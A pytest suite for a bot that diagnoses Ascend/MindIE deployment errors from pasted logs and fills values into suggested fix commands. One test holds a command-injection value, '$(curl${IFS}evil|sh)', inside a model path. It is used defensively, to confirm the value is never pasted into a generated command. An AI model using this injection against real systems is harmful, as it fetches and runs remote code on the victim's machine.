"""The diagnosis engine end to end, on the real corpus and the real embedding model."""

from __future__ import annotations

import random

import numpy as np
import pytest

from bot.engine.engine import fill
from bot.engine.fusion import DEFAULT_PARAMS, dense_evidence, fuse, lexical_evidence

SOCKET_LOG = """[2025-03-11 10:22:40.981] [7321] [INFO] [llm_manager] loading weights from /data/models/qwen2-7b
[2025-03-11 10:22:41.118] [7321] [INFO] [llm_manager] model loaded, 8 NPUs ready
[2025-03-11 10:22:41.502] [7321] [ERROR] [server] Socket bind failed, ip 127.0.0.1 port 1187
[2025-03-11 10:22:41.503] [7321] [ERROR] [daemon] mindieservice_daemon exit"""

OOM_TRACE = """Traceback (most recent call last):
  File "/usr/local/lib/python3.10/site-packages/atb_llm/runner/model_runner.py", line 212, in forward
    logits = self.model.forward(**kwargs)
RuntimeError: NPU out of memory. Tried to allocate 3.50 GiB (NPU 0; 60.97 GiB total capacity)"""


def test_signature_retriever_reports_the_line_and_fills_the_port(engine):
    answer = engine.answer(SOCKET_LOG, retriever="signatures")
    assert answer.answered
    top = answer.results[0]
    assert top.id == "socket-bind-failed"
    assert top.retrievers == ["signatures"]
    assert top.matched_lines[0].line_no == 3
    assert "Socket bind failed" in top.matched[0]
    assert "lsof -i :1187" in top.commands


def test_unfilled_placeholder_stays_visible(engine):
    answer = engine.answer("what should I do about Socket bind failed?")
    top = answer.results[0]
    assert top.id == "socket-bind-failed"
    assert "lsof -i :{port}" in top.commands


def test_fill_only_touches_known_identifiers():
    assert fill("lsof -i :{port}", {"port": "80"}) == "lsof -i :80"
    assert fill('{"type": "image_url"} {model_path}', {}) == '{"type": "image_url"} {model_path}'


def test_lexical_retriever_keeps_technical_tokens_whole(engine):
    answer = engine.answer("GLOO_SOCKET_IFNAME 应该设置成什么", retriever="lexical")
    assert answer.results[0].id in ("gloo-connection-refused", "gloo-unable-to-find-address")  # both set it
    answer = engine.answer("where do I change max_input_length in run_pa.sh", retriever="lexical")
    assert answer.results[0].id == "out-of-memory-need-block"


def test_dense_retriever_understands_a_paraphrase(engine):
    """No word of the query is in the entry's title; the embedding still ranks it first."""
    cosines = engine.dense.index.scores(engine.embed("the model's replies are unreadable junk characters"))
    ranked = [engine.entries[i].id for i in np.argsort(-cosines)[:3]]
    assert ranked[0] == "garbled-output", ranked


def test_dense_ignores_what_the_model_cannot_read(engine):
    """The English model reads Chinese as [UNK]: such a query gets no dense evidence at all."""
    assert engine.dense.embedder.readability("午饭吃什么") == 0.0
    assert engine.dense.embedder.readability("Socket bind failed") == 1.0
    answer = engine.answer("午饭吃什么", retriever="dense")
    assert not answer.answered and answer.confidence == 0.0


def test_hybrid_answers_a_traceback_with_its_commands(engine):
    answer = engine.answer(OOM_TRACE)
    top = answer.results[0]
    assert top.id == "npu-out-of-memory"
    assert "export NPU_MEMORY_FRACTION=0.96" in top.commands
    assert set(top.retrievers) >= {"signatures", "lexical"}
    assert 0.0 < top.confidence <= 1.0
    assert "signature" in top.why


def test_two_known_errors_come_back_in_log_order(engine):
    log = OOM_TRACE + "\n[INFO] restarting\n" + SOCKET_LOG
    answer = engine.answer(log)
    assert [h.id for h in answer.results[:2]] == ["npu-out-of-memory", "socket-bind-failed"]
    reverse = engine.answer(SOCKET_LOG + "\n" + OOM_TRACE)
    assert [h.id for h in reverse.results[:2]] == ["socket-bind-failed", "npu-out-of-memory"]


def test_a_consequence_does_not_outrank_the_error_that_caused_it(engine):
    # A failed stream synchronize only reports an earlier asynchronous failure; alone it points at an entry that
    # says how to make the failure synchronous, but the ECC fault next to it is the root error.
    sync = "RuntimeError: ACL stream synchronize failed, error code:507015"
    alone = engine.corpus.by_id[engine.answer(sync).candidates[0]]
    assert any("ASCEND_LAUNCH_BLOCKING" in c.run for c in alone.commands)  # alone: how to find the real error
    both = engine.answer(sync + "\nRuntimeError: HBM MULTI BIT ECC ERROR on device 6")
    assert "ECC" in both.root.text  # the sync failure is an echo; the ECC fault is the root
    assert both.candidates[0] != "async-error-locate"


def test_hanging_requests_with_oom_are_the_no_response_entry(engine):
    for text in (
        "service started fine but every request just hangs, model log says out of memory",
        "服务拉起成功，请求一直不返回，模型侧日志有 out of memory",
    ):
        answer = engine.answer(text)
        assert answer.results[0].id == "service-no-response", text
        assert "signatures" in answer.results[0].retrievers
    # hanging while the weights load, then out of memory, is the load-time OOM
    for text in ("loading weights is stuck at 60% and then out of memory", "加载权重卡住，然后报 out of memory"):
        assert engine.answer(text).candidates[0] == "model-load-out-of-memory", text


def test_undecoded_bpe_output_is_recognised_as_garbled(engine):
    answer = engine.answer('{"generated_text": "ĠçļĦ æĺ¯ ĠĠ ï¼Į Ċ Ċ"}')
    assert answer.results[0].id == "garbled-output"
    # ordinary accented prose is not mojibake
    assert engine.answer("café déjà vu, résumé naïve").answered is False


def test_error_code_resolves_to_name_and_fixing_entry(engine):
    answer = engine.answer("[ERROR] TEXT_GENERATOR_OUT_OF_MEMORY fault happened, error code: MIE05E01000A.")
    assert answer.results[0].id == "npu-out-of-memory"
    assert [(c.code, c.name, c.entry) for c in answer.error_codes] == [("MIE05E01000A", "TEXT_GENERATOR_OUT_OF_MEMORY", "npu-out-of-memory")]


def test_error_code_without_entry_gets_the_generic_one(engine):
    answer = engine.answer("2025-05-01 12:00:00 [ERROR] generate step failed: MIE05E010003")
    assert answer.answered
    assert answer.results[0].id == "mindie-error-code"
    assert answer.error_codes[0].name == "TEXT_GENERATOR_TEMP_ZERO_DIV_ERR"
    assert "grep -rn \"MIE05E010003\" /root/mindie/log/debug" in answer.results[0].commands


@pytest.mark.parametrize("text", [
    "thanks, that fixed it!",
    "午饭吃什么",
    "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB. GPU 0 has a total capacity of 23.64 GiB",
    "how do I center a div in css",
    'my C homework segfaults:\nint *p; scanf("%d", p);\nSegmentation fault (core dumped)',
])
def test_off_topic_input_abstains_with_closest_topics(engine, text):
    answer = engine.answer(text)
    assert not answer.answered
    assert answer.results == []
    assert answer.confidence < engine.settings.threshold


def test_foreign_stack_is_named_in_a_notice(engine):
    answer = engine.answer("torch.OutOfMemoryError: CUDA out of memory on my RTX 4090, nvidia-smi shows 23GB used")
    assert not answer.answered
    assert any("NVIDIA / CUDA" in n for n in answer.notices)


def test_another_vendors_npu_is_not_ascends(engine):
    # "NPU" alone is Ascend's word here, unless the paste names another vendor's NPU stack.
    intel = engine.answer("RuntimeError: failed to compile the model for the NPU device\n"
                          "using openvino 2024.4 on a Core Ultra laptop, what am I missing?")
    assert not intel.answered
    assert any("another vendor's NPU" in n for n in intel.notices)
    assert intel.family is None
    ported = engine.answer("NPU微调报错 AssertionError: Torch not compiled with CUDA enabled")  # CUDA words on Ascend
    assert not any("not of MindIE" in n for n in ported.notices)


def test_a_broad_match_does_not_outweigh_a_paste_about_another_stack(engine):
    # "curl: (7) ... Connection refused" is a MindIE entry's signature, but here it is the user's nginx
    nginx = engine.answer("curl: (7) Failed to connect to localhost port 8080 after 0 ms: Connection refused\n"
                          "my nginx container is up according to docker ps, what gives")
    assert not nginx.answered
    assert any("web server" in n for n in nginx.notices)
    ours = engine.answer("curl: (7) Failed to connect to localhost port 1025 after 0 ms: Connection refused\n"
                         "mindieservice_daemon was started a minute ago")
    assert ours.answered and ours.results[0].id == "service-connection-refused"


SHM_LOG = """Traceback (most recent call last):
  File "train.py", line 88, in <module>
    for batch in loader:
ERROR: Unexpected bus error encountered in worker. This might be caused by insufficient shared memory (shm)."""


def test_a_general_problem_in_a_log_with_no_trace_of_ascend_is_only_suggested(engine):
    # A small /dev/shm happens on any machine: nothing in this log says it comes from an Ascend setup.
    plain = engine.answer(SHM_LOG)
    assert not plain.answered
    assert any("not specific" in n for n in plain.notices)
    shm_title = next(e.title.en for e in engine.entries if e.id == "container-shm-too-small")
    assert shm_title in plain.suggestions
    # The same log from an NPU job, or a typed question in the channel, is answered.
    ascend = engine.answer(SHM_LOG + "\n(container started from the MindIE image on an Atlas 800I A2, 8 NPUs)")
    assert ascend.answered and ascend.results[0].id == "container-shm-too-small"
    asked = engine.answer("what does 'insufficient shared memory (shm)' mean, how big should --shm-size be?")
    assert asked.answered and asked.results[0].id == "container-shm-too-small"
    # The error line alone is a paste too: it may come from any machine, so it is only suggested as well.
    line = engine.answer(SHM_LOG.splitlines()[-1])
    assert not line.answered and shm_title in line.suggestions


def test_reply_language_follows_the_query(engine):
    zh = engine.answer("部署的时候报 Socket bind failed 是怎么回事")
    assert zh.lang == "zh"
    assert zh.results[0].id == "socket-bind-failed"
    assert "端口" in zh.results[0].cause
    en = engine.answer("deploying fails with Socket bind failed, why?")
    assert en.lang == "en" and "port" in en.results[0].cause


def test_empty_binary_and_huge_inputs(engine):
    empty = engine.answer("   ")
    assert not empty.answered and any("empty input" in n for n in empty.notices)
    binary = engine.answer(bytes(range(256)) * 50)
    assert not binary.answered and any("binary" in n for n in binary.notices)
    noise = "\n".join(f"[2025-01-01 00:00:{i % 60:02d}] [INFO] heartbeat {i} ok" for i in range(40_000))
    huge = OOM_TRACE + "\n" + noise + "\n" + noise + "\n" + SOCKET_LOG
    assert len(huge.encode()) > engine.settings.max_input_bytes
    answer = engine.answer(huge)
    assert any("only its first and last" in n for n in answer.notices)
    # the first error and the last one both survive the cut, in the order they occurred
    assert [h.id for h in answer.results[:2]] == ["npu-out-of-memory", "socket-bind-failed"]


def test_random_bytes_are_not_answered_but_a_log_inside_them_is(engine):
    junk = [random.Random(seed).randbytes(300_000) for seed in (1, 2, 3)]
    for data in junk:
        answer = engine.answer(data)
        assert not answer.answered and any("binary" in n for n in answer.notices)
    crashed = junk[0] + b"\n" + SOCKET_LOG.encode() + b"\n" + b"\x00" * 4096
    answer = engine.answer(crashed)
    assert answer.results[0].id == "socket-bind-failed"
    assert "lsof -i :1187" in answer.results[0].commands


def test_a_log_with_nothing_wrong_in_it_gets_no_answer(engine):
    quiet = "\n".join(f"[2025-01-01 00:00:{i % 60:02d}] [INFO] heartbeat ok" for i in range(20_000))
    assert not engine.answer(quiet).answered


def test_error_at_the_end_of_a_big_log_is_found(engine):
    noise = "\n".join(f"[2025-01-01 00:00:{i % 60:02d}] [INFO] heartbeat {i} ok" for i in range(10_000))
    answer = engine.answer(noise + "\n" + OOM_TRACE)
    assert answer.results[0].id == "npu-out-of-memory"
    assert answer.results[0].matched_lines[0].line_no == 10_000 + 4


def test_fusion_is_a_bounded_monotone_noisy_or():
    sig = np.array([0.0, 1.0, 0.5, 0.0])
    lex = lexical_evidence(np.array([0.0, 2.0, 10.0, 40.0]))
    den = dense_evidence(np.array([-1.0, 0.2, 0.6, 0.95]))
    fused = fuse(sig, lex, den)
    assert np.all((fused >= 0) & (fused <= 1))
    assert fused[0] == 0.0 and fused[1] == pytest.approx(1.0)
    stronger = fuse(sig, lex, dense_evidence(np.array([-1.0, 0.2, 0.7, 0.95])))
    assert stronger[2] > fused[2]
    assert lexical_evidence(np.zeros(3)).tolist() == [0.0, 0.0, 0.0]
    assert dense_evidence(np.array([DEFAULT_PARAMS.dense_floor, DEFAULT_PARAMS.dense_ceiling])).tolist() == [0.0, 1.0]


def test_json_contract(engine):
    payload = engine.answer(SOCKET_LOG, query_id="q1").contract()
    assert set(payload) >= {"id", "answered", "lang", "results"}
    assert payload["id"] == "q1" and payload["answered"] is True and payload["lang"] == "en"
    hit = payload["results"][0]
    assert set(hit) == {"id", "title", "score", "confidence", "cause", "fix", "commands", "matched", "retrievers"}
    assert isinstance(hit["fix"], str) and hit["fix"].startswith("1. ")
    assert all(isinstance(c, str) for c in hit["commands"])


def test_status_reports_model_and_index(engine):
    status = engine.status()
    assert status["entries"] >= 42
    assert status["dense"].startswith("ready")
    assert status["index"]["dim"] == 384


def test_the_fitted_calibration_ships_and_is_used(engine):
    """bot/engine/calibration.json is package data: without it the bot would answer on the raw fused score."""
    from bot.engine.calibration import CALIBRATION_FILE, Calibrator

    assert CALIBRATION_FILE.exists() and engine.status()["calibrated"]
    loaded = Calibrator.load()
    assert loaded.log is not None and loaded.question is not None


def test_reply_language_is_the_persons_not_the_logs(engine):
    # A Chinese sentence above a long English traceback: the person reads Chinese.
    text = "服务起不来，帮忙看看\n" + OOM_TRACE
    assert engine.answer(text).lang == "zh"
    # An English question that quotes garbled output or a Chinese folder stays English.
    assert engine.answer("model answers are gibberish like 'ĠĠ的的的', what to check?").lang == "en"
    assert engine.answer("OSError: /home/用户/models/qwen/config.json not found, what now?").lang == "en"
    # The user can force it.
    forced = engine.answer("服务起不来\n" + OOM_TRACE, lang="en")
    assert forced.lang == "en" and forced.results and "memory" in forced.results[0].title.lower()


def test_two_distinct_errors_are_both_marked_distinct(engine):
    answer = engine.answer(OOM_TRACE + "\n[INFO] restarting\n" + SOCKET_LOG)
    assert [h.distinct for h in answer.results[:2]] == [True, True]
    assert not engine.answer(SOCKET_LOG).results[0].distinct


def test_values_in_the_log_fill_placeholders_and_the_rest_get_hints(engine):
    answer = engine.answer("[ERROR] Socket bind failed, ip 172.17.0.3 port 40032")
    runs = [c.run for c in answer.results[0].command_details]
    assert any("40032" in run for run in runs) and not any("{port}" in run for run in runs)
    # No port in the question: the placeholder stays, with a hint in the reply language.
    zh = engine.answer("部署的时候报 Socket bind failed 是怎么回事")
    unfilled = [p for c in zh.results[0].command_details for p in c.unfilled]
    assert unfilled and all(p.hint and any("\u4e00" <= ch <= "\u9fff" for ch in p.hint) for p in unfilled)


def test_log_facts_are_read_with_re2_and_stay_safe():
    from bot.engine.engine import fill
    from bot.engine.logfacts import captures_for, log_facts

    facts = log_facts([
        "INFO start",
        'config: "modelWeightPath": "/data/models/qwen2-7b",',
        "RuntimeError: Failed to listen 172.17.0.3:40032",
        "ImportError: libhccl.so: cannot open shared object file: No such file or directory",
        "EE1001 Set visible device failed, invalid device=6",
    ])
    assert facts["port"] == "40032" and facts["ip"] == "172.17.0.3"
    assert facts["model_path"] == "/data/models/qwen2-7b" and facts["lib"] == "libhccl.so" and facts["device"] == "6"
    captures = captures_for(facts)
    assert fill("chmod 640 {model_path}/config.json", captures) == "chmod 640 /data/models/qwen2-7b/config.json"
    # A value that is not safe for its placeholder's type is never pasted into a command.
    hostile = captures_for(log_facts(['"modelWeightPath": "/$(curl${IFS}evil|sh)/x"']))
    assert "curl" not in fill("ls {model_path}", hostile)
    # Linear time on a hostile line.
    assert log_facts(["port " + "9" * 100_000, "(" * 50_000]) is not None


def test_every_answer_names_its_source(engine):
    answer = engine.answer(SOCKET_LOG)
    top = answer.results[0]
    assert top.source and top.source_url and top.source_url.startswith("https://")


def test_source_link_prefers_an_official_document_then_the_faq_then_a_thread():
    from bot.engine.engine import FAQ_URL, INSTALL_FAQ_URL, source_url

    assert source_url("faq#4; resolutions of https://github.com/a/b/issues/18") == FAQ_URL
    assert source_url("faq#40") == INSTALL_FAQ_URL
    assert source_url("see https://github.com/a/b/issues/1 and https://docs.vllm.ai/x.html (tuning)") == "https://docs.vllm.ai/x.html"
    assert source_url("maintainer in https://github.com/a/b/issues/1.") == "https://github.com/a/b/issues/1"
    assert source_url("faultdiag:AISW_CANN_HCCL_004") is None


KV_CACHE = ("ValueError: The model's max seq len (128000) is larger than the maximum number of tokens that can be stored "
            "in KV cache (78336). Try increasing `gpu_memory_utilization` or decreasing `max_model_len` when initializing the engine.")


def test_an_error_every_stack_prints_does_not_outweigh_a_foreign_paste(engine):
    """vLLM's KV-cache limit is matched exactly, but on an RTX 4090 it is not ours to answer; on a 910B it is."""
    foreign = engine.answer("- GPU type: NVIDIA GeForce RTX 4090\n- vLLM version: 0.7.3\n" + KV_CACHE)
    assert not foreign.answered
    assert any("NVIDIA / CUDA" in n for n in foreign.notices)
    ours = engine.answer("- NPU: Ascend 910B3, vllm-ascend 0.7.3\n" + KV_CACHE)
    assert ours.answered and ours.results[0].id == "vllm-max-model-len-exceeds-kv-cache"


STATIC_TLS = "ImportError: /usr/lib/aarch64-linux-gnu/libgomp.so.1: cannot allocate memory in static TLS block"


def test_a_foreign_paste_is_not_diagnosed_even_when_its_error_line_is_known(engine):
    """A signature-exact error line on an NVIDIA box is suggested, not answered: the same line on an Ascend box is."""
    paste = "two RTX 3090 cards, CUDA 12.1\n" + STATIC_TLS
    assert engine.scope.classify(paste) == (False, "NVIDIA / CUDA")
    foreign = engine.answer(paste)
    assert not foreign.answered
    assert "static-tls-block" in foreign.candidates[:3]
    ours = engine.answer("Atlas 800I A2, CANN 8.0.RC3, torch_npu 2.1.0\n" + STATIC_TLS)
    assert ours.answered and ours.results[0].id == "static-tls-block"


def test_a_jetson_paste_is_another_stack(engine):
    _, foreign = engine.scope.classify("Jetson Xavier NX, JetPack 4.6\nOSError: libnvinfer.so.8: cannot open shared object file")
    assert foreign == "NVIDIA / CUDA"


@pytest.mark.parametrize("text, foreign", [
    ("GPUStack version: 0.5.1, OS: ubuntu, GPU: 4090", "NVIDIA / CUDA"),  # a consumer card named by number only
    ("GPU：3090", "NVIDIA / CUDA"),
    ("GPU: 910B3", None),  # an Ascend chip named as the GPU is ours
    ("service listening on port: 4090", None),  # a bare 4-digit number is not a card
    ("llama_context:      CUDA0 compute buffer size =  1480.00 MiB", "NVIDIA / CUDA"),  # llama.cpp's CUDA device name
    ("llama_context:  CANN_Host  output buffer size =     0.06 MiB", None),  # its CANN one is ours
    ("RuntimeError: HIP error: invalid device function\nHIP kernel errors might be asynchronously reported", "AMD ROCm / HIP"),
    ("RuntimeError: MPS backend out of memory (MPS allocated: 17.00 GB, max allowed: 18.13 GB)", "Apple MPS"),
    ("ROCm 6.1 on an MI300X, and a 910B box beside it", None),  # a domain word wins over the foreign one
])
def test_a_gpu_field_with_a_geforce_number_is_another_stack(engine, text: str, foreign: str | None):
    assert engine.scope.classify(text)[1] == foreign


@pytest.mark.parametrize("paste, expected", [
    # an x86 environment file on a Kunpeng host: Intel MKL has no aarch64 build
    ("Platform: linux-aarch64\nAtlas 800I A2, 910B3\n"
     "PackagesNotFoundError: The following packages are not available from current channels:\n\n  - mkl-service\n  - mkl\n",
     "x86-only-packages-on-aarch64"),
    # Paddle's NPU plugin has no kernel for the operator in that data type
    ("RuntimeError: (NotFound) The kernel with key (npu, Undefined(AnyLayout), float16) of kernel `silu` is not "
     "registered and fail to fallback to CPU one.\n", "paddle-npu-kernel-not-registered"),
    # not an error: an operator without an NPU kernel ran on the CPU
    ("W0101 missing NPU kernel: lookup_table, expected_kernel_key:data_type[float]:data_layout[Undefined(AnyLayout)]:"
     "place[Place(npu:0)]:library_type[PLAIN], fallbacking to CPU one!\n", "paddle-npu-kernel-not-registered"),
    # a container that dropped every capability cannot open device nodes owned by another uid
    ("npu-smi: dcmi module initialize failed. ret is -8005\n", "dcmi-module-initialize-failed"),
    # the Python OpenAI client against a server started with --api-key, as the client prints it
    ("openai.AuthenticationError: Error code: 401 - {'error': 'Unauthorized'}\n", "openai-api-key-401"),
])
def test_new_entries_answer_their_own_errors(engine, paste: str, expected: str):
    answer = engine.answer(paste)
    assert answer.answered and answer.results[0].id == expected


def test_the_dcmi_entry_names_the_capability_a_locked_down_container_needs(engine):
    hit = engine.answer("npu-smi: dcmi module initialize failed. ret is -8005\n").results[0]
    assert any("DAC_OVERRIDE" in c for c in hit.commands)


def test_a_paste_no_signature_knows_is_answered_from_its_words_only_when_both_retrievers_agree(engine):
    """A two-line paste (a report title and the image it used) that no signature recognises: the lexical and the
    dense retriever pick different entries, so the fused winner is a guess and stays a suggestion (it was answered at
    0.59 with the 300I Duo entry, while the thread's fix was elsewhere). When both pick the same entry, the words are
    evidence enough and it is answered."""
    split = engine.answer("qwen3-30b-a3b-instruct-2507 能够在300i duo上启动，curl测试崩掉了。\n"
                          "docker pull --platform=arm64 quay.io/ascend/vllm-ascend:v0.18.0rc1-310p-openeuler")
    assert not split.answered
    assert split.suggestions  # the closest topics are still offered
    agreed = engine.answer("euleros based系统上无法通过pip安装 torch-npu\npip install torch-npu 提示找不到可用版本（EulerOS 系统自带的 python）")
    assert agreed.answered and "signatures" not in agreed.results[0].retrievers


def test_a_log_without_an_error_line_is_weighed_like_the_question_it_comes_with(engine):
    """INFO lines pasted under a question ("same prompts, only the batch order changed: why?") hold no error for a
    signature to recognise, so the calibration for typed questions weighs them: their words say what the problem is.
    A log with an error line, or one a signature recognises (mojibake in a response), stays with the log model."""
    from bot.engine.calibration import FEATURES
    from bot.engine.normalize import prepare

    def log_model(text: str) -> bool:
        prepared = prepare(text, engine.settings.max_input_bytes)
        ev = engine.evidence(prepared, {"signatures", "lexical", "dense"})
        features = engine.features(engine.fused(ev, prepared, []), ev, prepared).matrix
        return bool(features[0, FEATURES.index("is_log")] > 0.5)

    info_only = ("same 4 prompts, only their order in the batch changed; why does the output differ?\n```\n"
                 "[2025-06-03 10:11:40,331] [INFO] [run_pa.py:322] Question[0]: hello\n"
                 "[2025-06-03 10:11:40,331] [INFO] [run_pa.py:323] Answer[0]: the great wall is\n```")
    assert prepare(info_only, engine.settings.max_input_bytes).is_log
    assert not log_model(info_only)
    assert log_model(SOCKET_LOG)
    mojibake = ('[2025-04-21 15:20:11.004] [INFO] [text_generator.py:212] request 3 finished, output tokens: 128\n'
                '[2025-04-21 15:20:11.006] [INFO] [endpoint] response sent, status 200\n'
                '{"generated_text":"ĠçļĦ æĺ¯ ĠĠ ï¼Į Ġ ÃĤ Ã¥ Ċ Ċ ĠçļĦçļĦ ãĢĤ ĠĠĠ è¿Ļ"}\n'
                '[2025-04-21 15:20:12.117] [INFO] [endpoint] heartbeat ok')
    assert prepare(mojibake, engine.settings.max_input_bytes).is_log
    assert log_model(mojibake)


def test_max_retries_to_a_local_service_is_a_refused_connection_not_an_internet_fetch(engine):
    """"Max retries exceeded with url" is the FAQ's model code fetching from the internet when the host is a server out
    there; a client whose request to 127.0.0.1:1025 was refused has a service that is not listening."""
    local = engine.answer("requests.exceptions.ConnectionError: HTTPConnectionPool(host='127.0.0.1', port=1025): Max retries "
                          "exceeded with url: /v1/chat/completions (Caused by NewConnectionError('<urllib3.connection."
                          "HTTPConnection object at 0x7f>: Failed to establish a new connection: [Errno 111] Connection refused'))")
    assert local.answered and local.results[0].id == "service-connection-refused"
    # A client message that wrapped: "Connection refused" two lines below the host.
    wrapped = engine.answer("ConnectionError: HTTPConnectionPool(host='localhost', port=1025): Max retries exceeded with url: /generate\n"
                            "(Caused by NewConnectionError('<urllib3.connection.HTTPConnection object at 0x7fed>: Failed to establish a new\n"
                            "connection: [Errno 111] Connection refused'))")
    assert wrapped.answered and wrapped.results[0].id == "service-connection-refused"
    remote = engine.answer("requests.exceptions.ConnectionError: HTTPSConnectionPool(host='huggingface.co', port=443): Max "
                           "retries exceeded with url: /Qwen/Qwen-VL-Chat/resolve/main/SimSun.ttf (Caused by "
                           "NewConnectionError('Failed to establish a new connection: [Errno 101] Network is unreachable'))")
    assert remote.answered and remote.results[0].id == "max-retries-exceeded"


def test_a_read_timeout_to_the_service_is_not_a_refused_connection(engine):
    """A client that connected and then timed out waiting (requests' ReadTimeout) met a service that does not answer,
    not one that refused the connection; its words alone had led to the refused-connection entry at 54 %. It has
    several causes, so it is not answered outright: the no-response entry is the closest topic."""
    answer = engine.answer("requests.exceptions.ReadTimeout: HTTPConnectionPool(host='127.0.0.1', port=1025): Read timed "
                           "out. (read timeout=600)")
    assert not (answer.answered and answer.results[0].id == "service-connection-refused")
    top = answer.results[0].id if answer.answered else answer.closest.id
    assert top == "service-no-response"


def test_an_entry_about_another_code_of_the_same_system_is_not_the_answer(engine):
    """"ACL stream synchronize failed, error code:507035" shares every word with the 507018 entry's error, not its
    code: it was answered with the AI CPU sampling entry at 70 %. The vector-core code's own (triage) entry leads."""
    answer = engine.answer("RuntimeError: ACL stream synchronize failed, error code:507035")
    assert not (answer.answered and answer.results[0].id == "generate-sampling-aicpu-507018")
    assert [c.code for c in answer.error_codes] == ["507035"]
    assert answer.recognised is not None and answer.recognised.id == "aicore-vector-exception"
    # The entry's own code is still its answer.
    own = engine.answer("RuntimeError: ACL stream synchronize failed, error code:507018")
    assert own.answered and own.results[0].id == "generate-sampling-aicpu-507018"


def test_requests_that_never_come_back_from_a_mindie_service_are_the_faqs_no_response(engine):
    """The FAQ's "service is up, requests get no response" in a user's words is recognised on its line when the
    paste shows a MindIE service (port 1025, its config keys); the same words about another server are not it."""
    answer = engine.answer("服务起来了，curl http://127.0.0.1:1025/generate 一直没有响应，npuDeviceIds 要改吗")
    assert answer.answered and answer.results[0].id == "service-no-response"
    assert answer.results[0].matched
    other = engine.answer("my flask app on port 8000 is up but POST /predict never comes back")
    assert not (other.answered and other.results[0].id == "service-no-response")
